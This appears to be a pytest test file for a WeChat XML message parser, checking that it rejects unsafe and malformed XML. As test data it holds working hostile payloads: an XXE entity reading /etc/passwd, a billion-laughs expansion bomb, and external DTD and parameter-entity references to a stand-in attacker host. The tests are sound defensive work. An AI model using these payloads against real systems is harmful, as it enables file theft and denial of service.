import pytest

from wechat import (
    ForbiddenXMLError,
    InvalidEncodingError,
    MalformedXMLError,
    RootElementError,
    XMLError,
)
from wechat.parser import parse_message, parse_xml

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><Content>&xxe;</Content></xml>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><Content>&lol9;</Content></xml>"""

INTERNAL_DTD = b"""<!DOCTYPE xml [<!ELEMENT xml ANY>]>
<xml><Content>x</Content></xml>"""

INTERNAL_ENTITY = b"""<!DOCTYPE xml [<!ENTITY name "value">]>
<xml><Content>&name;</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.invalid/evil.dtd">
<xml><Content>x</Content></xml>"""

PARAMETER_ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
 %remote;
]>
<xml><Content>x</Content></xml>"""


@pytest.mark.parametrize(
    "body",
    [XXE, BILLION_LAUGHS, INTERNAL_DTD, INTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITIES],
    ids=[
        "xxe",
        "billion-laughs",
        "internal-dtd",
        "internal-entity",
        "external-dtd",
        "parameter-entities",
    ],
)
def test_dtds_and_entities_are_forbidden(body):
    with pytest.raises(ForbiddenXMLError):
        parse_xml(body)
    with pytest.raises(ForbiddenXMLError):
        parse_xml(body.decode())
    with pytest.raises(ForbiddenXMLError):
        parse_message(body)


def test_xxe_never_reads_the_file():
    with pytest.raises(ForbiddenXMLError) as info:
        parse_xml(XXE)
    assert "root:" not in str(info.value)


def test_undeclared_entity_is_malformed():
    with pytest.raises(MalformedXMLError):
        parse_xml(b"<xml><Content>&xxe;</Content></xml>")


@pytest.mark.parametrize(
    "body",
    [b"<root><MsgType>text</MsgType></root>", b"<XML></XML>", b'<w:xml xmlns:w="urn:x"/>'],
)
def test_root_must_be_xml(body):
    with pytest.raises(RootElementError):
        parse_xml(body)


@pytest.mark.parametrize(
    "body",
    [
        b"<xml><Content>\xff\xfe</Content></xml>",
        b"<xml><Content>\xc3</Content></xml>",
        "<xml><Content>中</Content></xml>".encode("gbk"),
        "<xml><Content>x</Content></xml>".encode("utf-16"),
        # Without a byte-order mark, expat would take '3C 00' for UTF-16 whatever it is told.
        "<xml><Content>x</Content></xml>".encode("utf-16-le"),
        "<xml><Content>x</Content></xml>".encode("utf-16-be"),
        "<xml><Content>x</Content></xml>".encode("utf-32-le"),
        b"<xml><Content>x\x00</Content></xml>",
    ],
    ids=["bad-byte", "truncated", "gbk", "utf16-bom", "utf16le", "utf16be", "utf32le", "nul"],
)
def test_invalid_utf8_bytes(body):
    with pytest.raises(InvalidEncodingError):
        parse_xml(body)


def test_lone_surrogate_in_text():
    with pytest.raises(InvalidEncodingError):
        parse_xml("<xml><Content>\udc80</Content></xml>")


@pytest.mark.parametrize(
    "body",
    [
        b"<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName><Content>hel",
        b"<xml><Content><![CDATA[abc</Content></xml>",
        b"<xml><a></b></xml>",
        b"<xml></xml><xml></xml>",
        b"<xml><Content>\x01</Content></xml>",
        b"not xml at all",
        b'{"MsgType": "text"}',
    ],
)
def test_malformed_xml(body):
    with pytest.raises(MalformedXMLError):
        parse_xml(body)


@pytest.mark.parametrize("body", [b"", "", b"   \n"])
def test_empty_body(body):
    with pytest.raises(MalformedXMLError):
        parse_xml(body)


def test_excessive_nesting_is_forbidden():
    body = "<xml>" + "<a>" * 100_000 + "</a>" * 100_000 + "</xml>"
    with pytest.raises(ForbiddenXMLError):
        parse_xml(body)


def test_every_xml_error_shares_one_base():
    for error in (MalformedXMLError, InvalidEncodingError, ForbiddenXMLError, RootElementError):
        assert issubclass(error, XMLError)


def test_hostile_but_well_formed_fields_do_not_crash_parse_message():
    msg = parse_message(
        b"<xml><MsgType><a>event</a></MsgType><Event>subscribe</Event>"
        b"<CreateTime>99999999999999999999999999</CreateTime><MsgId></MsgId>"
        b"<FromUserName><x/><x/></FromUserName></xml>"
    )
    assert msg.type == ""
    assert msg.source == ""
    assert msg.time == 99999999999999999999999999
